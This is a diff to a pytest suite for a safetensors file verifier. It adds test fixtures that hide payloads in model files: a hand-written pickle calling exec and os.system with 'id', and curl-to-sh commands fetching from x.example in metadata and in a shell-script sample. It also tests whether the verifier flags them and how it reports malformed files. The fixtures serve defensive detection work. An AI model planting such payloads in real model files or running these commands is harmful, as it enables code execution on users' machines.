@@ -45,6 +45,31 @@ def _trailing_pickle(p: Path) -> None:
     write_entries(p, {"a": F32_1}, b"\0" * 4 + b"\x80\x04\x95\x20\x00\x00\x00" + b"\0" * 9)
 
 
+#: ``pickle.dumps`` of a call of ``builtins.exec``, protocol 4, written out by hand (never
+#: unpickled here).
+PICKLE_EXEC = (
+    b"\x80\x04\x95\x28\0\0\0\0\0\0\0\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94"
+    b"\x8c\x0cimport os;id\x94\x85\x94R\x94."
+)
+
+
+def _tensor_with_pickle(p: Path) -> None:
+    blob = PICKLE_EXEC + b"\0" * 13
+    write_entries(
+        p,
+        {"blob": entry("U8", [len(blob)], 0, len(blob)), "a": entry("F32", [1], 64, 68)},
+        blob + b"\0" * 4,
+    )
+
+
+def _pickle_prefix(p: Path) -> None:
+    # A header of 0x2158 bytes: the prefix reads as BINUNICODE of 0x21 bytes, which
+    # ends on "0N." inside a metadata value (POP, NONE, STOP): pickle.loads gives None.
+    header = '{"__metadata__":{"p":"aaaaaaaa0N."},"a":' + A + "}"
+    assert header.index("0N.") == 30
+    write_raw(p, header.ljust(0x2158), b"\0" * 4)
+
+
 def _hole_with_zip(p: Path) -> None:
     write_entries(
         p, {"a": F32_1, "b": entry("F32", [1], 24, 28)}, b"\0" * 4 + b"PK\x03\x04" + b"\1" * 20
@@ -187,6 +212,32 @@ CASES: List[Case] = [
     ),
     Case("control-char-name", "medium", lambda p: write_entries(p, {"a\u202eb": F32_1}, b"\0" * 4)),
     Case("path-like-name", "medium", lambda p: write_entries(p, {"../../etc/x": F32_1}, b"\0" * 4)),
+    Case("tensor-payload", "critical", _tensor_with_pickle),
+    Case(
+        "metadata-payload",
+        "critical",
+        lambda p: write_entries(p, {"a": F32_1}, b"\0" * 4, {"ss_x": "cos\nsystem\n(S'id'\ntR."}),
+    ),
+    Case("pickle-prefix", "high", _pickle_prefix),
+    Case(
+        "metadata-code",
+        "high",
+        lambda p: write_entries(
+            p, {"a": F32_1}, b"\0" * 4, {"ss_x": "curl -s https://x.example/i | sh"}
+        ),
+    ),
+    Case(
+        "metadata-executable-link",
+        "high",
+        lambda p: write_entries(
+            p, {"a": F32_1}, b"\0" * 4, {"ss_x": "https://x.example/setup.exe"}
+        ),
+    ),
+    Case(
+        "metadata-blob",
+        "medium",
+        lambda p: write_entries(p, {"a": F32_1}, b"\0" * 4, {"ss_x": "TWFsd2FyZTEyMw" * 80}),
+    ),
     Case(
         "non-finite-values",
         "medium",
@@ -269,7 +320,7 @@ def test_very_deep_nesting_is_a_finding_not_a_crash(
     (report,) = doc
     assert [f["rule"] for f in report["findings"]] == ["json-too-deep"]
     assert not report["accepted"] and not report["complete"]
-    assert code == 1
+    assert code == 2 and report["inconclusive"]  # malformed: no verdict either way
 
 
 @pytest.mark.parametrize("case", CASES, ids=[c.rule for c in CASES])
@@ -282,11 +333,17 @@ def test_rule(case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]) ->
     assert hits, [f["rule"] for f in report["findings"]]
     assert all(f["severity"] == case.severity for f in hits)
     assert all(f["message"] for f in hits)
-    # Exit code: 1 when something is at least low (the default threshold),
-    # 2 when only the header was unreadable below it, else 0.
-    worst = max(fi.severity_rank(f["severity"]) for f in report["findings"])
-    if worst >= fi.severity_rank("low"):
-        assert code == 1
+    verdicts = {r["id"]: r["verdict"] for r in fi.rules()}
+    assert all(f["verdict"] == verdicts[f["rule"]] for f in report["findings"])
+    # Exit code: 1 when a red flag is at least low (the default threshold);
+    # else 2 when the file is malformed (inconclusive, not malicious); else 0.
+    red = [f for f in report["findings"] if f["verdict"] == "red-flag"]
+    malformed = any(f["verdict"] == "malformed" for f in report["findings"])
+    assert report["malformed"] == malformed
+    if any(fi.severity_rank(f["severity"]) >= fi.severity_rank("low") for f in red):
+        assert code == 1 and report["fails"] and not report["inconclusive"]
+    elif malformed or not report["complete"]:
+        assert code == 2 and report["inconclusive"] and not report["fails"]
     else:
         assert code == 0
     # The reader's verdict agrees with the reference package's.
@@ -298,8 +355,10 @@ def test_rule(case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]) ->
         reference_accepts = False
     if case.severity in ("info", "low", "medium") and case.rule not in ("large-tensor",):
         assert report["accepted"] and reference_accepts
-    if case.severity == "high" and case.rule not in ("aliased-tensor",):
+    if verdicts[case.rule] == "malformed" and case.rule not in ("aliased-tensor",):
         assert not report["accepted"]
+    if verdicts[case.rule] == "red-flag" and case.rule.startswith(("metadata-", "tensor-")):
+        assert report["accepted"] and reference_accepts  # a red flag in a well-formed file
 
 
 def test_clean_file_exits_zero(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -414,7 +473,7 @@ def test_folder_walk(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None
     code, doc = run_json(["verify", "--json", str(tmp_path)], capsys)
     paths = [Path(r["path"]).name for r in doc]
     assert paths == ["a.safetensors", "b.safetensors"]
-    assert code == 1
+    assert code == 2  # b is malformed (trailing bytes): inconclusive
 
 
 def test_text_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -422,9 +481,42 @@ def test_text_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None
     _trailing_pickle(path)
     code, out, _err = run(["verify", str(path)], capsys)
     assert code == 1
-    assert "REJECTED by the reader" in out
+    assert "t.safetensors: RED FLAG: 2 findings (1 critical, 1 high); REJECTED by the reader" in out
     assert "CRITICAL hidden-payload" in out
     assert "pickle stream (protocol 4)" in out
+    assert "HIGH     trailing-bytes  malformed: " in out  # the layout rule broken, as such
+
+
+def test_malformed_is_inconclusive_and_a_red_flag_fails(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # The same broken layout, without and with a payload in the stray bytes:
+    # malformed alone is inconclusive (exit 2) in text, JSON and SARIF; with
+    # a red flag it fails (exit 1), whatever the threshold's order.
+    broken, flagged = tmp_path / "broken.safetensors", tmp_path / "flagged.safetensors"
+    write_entries(broken, {"a": F32_1}, b"\0" * 4 + b"junk" * 4)
+    _trailing_pickle(flagged)
+    code, out, _ = run(["verify", str(broken)], capsys)
+    assert code == 2 and "broken.safetensors: MALFORMED, inconclusive: 1 finding" in out
+    assert "RED FLAG" not in out
+    code, doc = run_json(["verify", "--json", str(broken)], capsys)
+    assert code == 2
+    assert (doc[0]["malformed"], doc[0]["inconclusive"], doc[0]["fails"]) == (True, True, False)
+    assert {f["verdict"] for f in doc[0]["findings"]} == {"malformed"}
+    code, log = run_json(["verify", "--format", "sarif", str(broken)], capsys)
+    assert code == 2
+    (result,) = log["runs"][0]["results"]
+    assert (result["kind"], result["level"]) == ("review", "none")
+    code, doc = run_json(["verify", "--json", str(flagged)], capsys)
+    assert code == 1 and doc[0]["fails"] and doc[0]["malformed"] and not doc[0]["inconclusive"]
+    # Above the threshold of every red flag, a malformed file stays inconclusive.
+    code, doc = run_json(["verify", "--json", "--fail-on", "critical", str(broken)], capsys)
+    assert code == 2 and doc[0]["inconclusive"]
+    code, out, _ = run(["verify", str(broken), str(flagged)], capsys)
+    assert out.rstrip().splitlines()[-1] == (
+        "2 inputs verified: 1 with red flags at or above low, 1 malformed (inconclusive), "
+        "0 unreadable"
+    )
 
 
 def test_sarif_is_valid_sarif_2_1_0(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -446,9 +538,21 @@ def test_sarif_is_valid_sarif_2_1_0(tmp_path: Path, capsys: pytest.CaptureFixtur
     rule_ids = [r["id"] for r in run_["tool"]["driver"]["rules"]]
     found = {r["ruleId"] for r in run_["results"]}
     assert {c.rule for c in CASES} <= found
+    verdicts = {r["id"]: r["verdict"] for r in fi.rules()}
     for result in run_["results"]:
         assert rule_ids[result["ruleIndex"]] == result["ruleId"]
-        assert result["level"] in ("error", "warning", "note")
+        assert result["properties"]["verdict"] == verdicts[result["ruleId"]]
+        # Malformed is "review" (not enough to decide), a red flag "fail".
+        if verdicts[result["ruleId"]] == "malformed":
+            assert (result["kind"], result["level"]) == ("review", "none")
+        else:
+            assert result["kind"] == "fail"
+            assert result["level"] in ("error", "warning", "note")
+    for rule in run_["tool"]["driver"]["rules"]:
+        assert rule["properties"]["verdict"] == verdicts[rule["id"]]
+    notes = [n["message"]["text"] for n in run_["invocations"][0]["toolExecutionNotifications"]]
+    hole = str(tmp_path / "hole.safetensors")  # malformed, and nothing else
+    assert any(n.startswith(hole + ": malformed") for n in notes), notes
     assert run_["invocations"][0]["executionSuccessful"] is False
 
 
@@ -568,7 +672,7 @@ def test_folder_scan_reports_files_holding_pickles(
     assert "PyTorch checkpoint (zip with pickles)" in str(by_name["pytorch_model.bin"])
     code, out, err = run(["verify", str(tmp_path)], capsys)
     assert code == 1 and err == ""
-    assert "5 inputs verified: 4 with findings at or above low" in out
+    assert "5 inputs verified: 4 with red flags at or above low, 0 malformed" in out
     assert "CRITICAL foreign-content  this is a raw pickle stream" in out
 
 
@@ -596,16 +700,19 @@ def test_truncated_download_is_one_plain_finding(
     whole = _many_tensors(path)
     path.write_bytes(whole[:50_000])
     code, doc = run_json(["verify", "--json", str(path)], capsys)
-    assert code == 1
+    # Malformed, not malicious: inconclusive (exit 2), no red flag.
+    assert code == 2 and doc[0]["malformed"] and doc[0]["inconclusive"] and not doc[0]["fails"]
     (finding,) = doc[0]["findings"]
+    assert finding["verdict"] == "malformed"
     assert finding["rule"] == "data-too-short" and finding["severity"] == "high"
     assert finding["message"] == f"truncated: 50,000 of {len(whole):,} bytes present; re-download"
     assert finding["offset"] == 50_000 and finding["length"] == len(whole) - 50_000
     header_len = struct.unpack("<Q", whole[:8])[0]
     assert finding["count"] == 40 - (50_000 - 8 - header_len) // 4000  # tensors cut off
     code, out, _err = run(["verify", str(path)], capsys)
-    assert code == 1 and out.count("\n") == 2
-    assert f"HIGH     data-too-short  truncated: 50,000 of {len(whole):,} bytes" in out
+    assert code == 2 and out.count("\n") == 2
+    assert "cut.safetensors: MALFORMED, inconclusive: 1 finding (1 high)" in out
+    assert f"HIGH     data-too-short  malformed: truncated: 50,000 of {len(whole):,} bytes" in out
     # Cut at a tensor's end: only whole tensors are missing, the same one finding.
     path.write_bytes(whole[: 8 + header_len + 4000])
     (finding,) = fi.verify_file(path)["findings"]
@@ -628,7 +735,7 @@ def test_truncated_shard_is_one_plain_finding(
     whole = shard.read_bytes()
     shard.write_bytes(whole[:10_000])
     code, doc = run_json(["verify", "--json", str(tmp_path)], capsys)
-    assert code == 1
+    assert code == 2 and doc[0]["inconclusive"]
     (finding,) = doc[0]["findings"]
     assert finding["shard"] == names[1] and finding["rule"] == "data-too-short"
     assert finding["message"] == f"truncated: 10,000 of {len(whole):,} bytes present; re-download"
@@ -647,7 +754,8 @@ def test_verify_summary_counts_unreadable_inputs(tmp_path, capsys):
     code, out, err = run(["verify", str(good), str(missing)], capsys)
     assert code == 2 and "missing.safetensors" in err
     assert out.rstrip().splitlines()[-1] == (
-        "1 input verified: 0 with findings at or above low, 1 unreadable"
+        "1 input verified: 0 with red flags at or above low, 0 malformed (inconclusive), "
+        "1 unreadable"
     )
     code, out, _ = run(["verify", str(missing), str(tmp_path / "gone.safetensors")], capsys)
     assert code == 2
@@ -684,3 +792,98 @@ def test_sarif_artifact_uris_of_absolute_and_relative_paths(tmp_path, capsys, mo
     assert code == 0
     [artifact] = json.loads(out)["runs"][0]["artifacts"]
     assert artifact["location"]["uri"] == "a%20model.safetensors"
+
+
+# Hidden payloads: where they sit, and none in ordinary weights -------------------------
+
+
+def _payloads(tmp_path: Path) -> dict:
+    """Other formats' files, as a tensor might carry them: a pickle that calls code, a PyTorch
+    zip archive (made by zipfile, as torch.save lays it out), an ELF executable (this Python's
+    own, when it is one), a shell script and a Python script without a #! line."""
+    import sys
+
+    archive = _zip(tmp_path / "ckpt.zip", "archive/data.pkl", "archive/version").read_bytes()
+    found = {
+        "a pickle program": PICKLE_EXEC,
+        "a zip archive holding pickles": archive,
+        "a script (#!/bin/sh)": b"#!/bin/sh\ncurl -s http://x.example/p | sh\n",
+        "a script (text that calls code": b"import subprocess\nsubprocess.run(['id'])\n" * 2,
+    }
+    with open(sys.executable, "rb") as fh:
+        head = fh.read(4096)
+    if head.startswith(b"\x7fELF"):
+        found["an ELF "] = head
+    return found
+
+
+def _weights(n: int, seed: int) -> dict:
+    import ml_dtypes
+
+    rng = np.random.default_rng(seed)
+    return {
+        "f32": rng.standard_normal(n).astype(np.float32) * 0.02,
+        "bf16": (rng.standard_normal(n) * 0.02).astype(ml_dtypes.bfloat16),
+    }
+
+
+@pytest.mark.parametrize("deep", [False, True], ids=["at-the-start", "deep-inside"])
+def test_payloads_in_tensors_are_found_where_they_sit(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], deep: bool
+) -> None:
+    # At a tensor's start: found by the quick look; 100,000 bytes into a
+    # float tensor: found when --values reads every byte, never before.
+    for what, payload in _payloads(tmp_path).items():
+        if deep and "text that calls code" in what:
+            continue  # text without a #! line counts at a tensor's start only
+        path = tmp_path / "m.safetensors"
+        w = _weights(1 << 16, 1)["f32"].copy()
+        at = 100_000 if deep else 0
+        w.view(np.uint8)[at : at + len(payload)] = np.frombuffer(payload, np.uint8)
+        fastst.numpy.save_file({"a.weight": np.ones(4, np.float32), "b.weight": w}, path)
+        data_start = 8 + struct.unpack("<Q", path.read_bytes()[:8])[0]
+        code, doc = run_json(["verify", "--json", "--values", str(path)], capsys)
+        (report,) = doc
+        (f,) = [f for f in report["findings"] if f["rule"] == "tensor-payload"]
+        assert f["message"].split(" hold ")[1].startswith(what), (what, f["message"])
+        assert (f["tensor"], f["offset"]) == ("b.weight", data_start + 16 + at)
+        assert f["verdict"] == "red-flag" and code == 1 and report["accepted"]
+        code, doc = run_json(["verify", "--json", str(path)], capsys)
+        rules = [f["rule"] for f in doc[0]["findings"]]
+        assert rules == ([] if deep else ["tensor-payload"]), (what, rules)
+
+
+def test_a_real_looking_model_holds_no_payload(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Random BF16 and F32 weights, integer and byte tensors, the metadata
+    # real LoRAs and checkpoints carry (JSON, hashes, a base64 thumbnail, a
+    # description with a usage example): no finding, quick look or full scan.
+    import base64
+    import hashlib
+
+    tensors: dict = {}
+    for i in range(4):
+        w = _weights(1 << 15, i)
+        tensors[f"model.layers.{i}.self_attn.q_proj.weight"] = w["bf16"].reshape(256, 128)
+        tensors[f"model.layers.{i}.mlp.up_proj.weight"] = w["f32"].reshape(128, 256)
+    tensors["model.embed_tokens.weight"] = _weights(1 << 16, 9)["bf16"].reshape(512, 128)
+    tensors["position_ids"] = np.arange(4096, dtype=np.int64)
+    rng = np.random.default_rng(5)
+    tensors["quant.weight_scale"] = rng.integers(0, 256, 1 << 16, dtype=np.uint8)
+    thumb = base64.b64encode(rng.integers(0, 256, 3000, dtype=np.uint8).tobytes()).decode()
+    metadata = {
+        "format": "pt",
+        "modelspec.title": "tiny",
+        "modelspec.thumbnail": "data:image/png;base64," + thumb,
+        "modelspec.description": "Load with `pipe.load_lora_weights(path)`; then model.eval().",
+        "ss_tag_frequency": json.dumps({"10_sks dog": {"sks": 10, "dog": 9}}),
+        "ss_network_module": "networks.lora",
+        "sshs_model_hash": hashlib.sha256(b"x").hexdigest(),
+        "ssmd_source": "https://civitai.com/models/12345?modelVersionId=678",
+    }
+    path = tmp_path / "model.safetensors"
+    fastst.numpy.save_file(tensors, path, metadata=metadata)
+    for args in ([], ["--values"]):
+        code, doc = run_json(["verify", "--json", *args, str(path)], capsys)
+        assert code == 0 and doc[0]["findings"] == [], doc[0]["findings"]
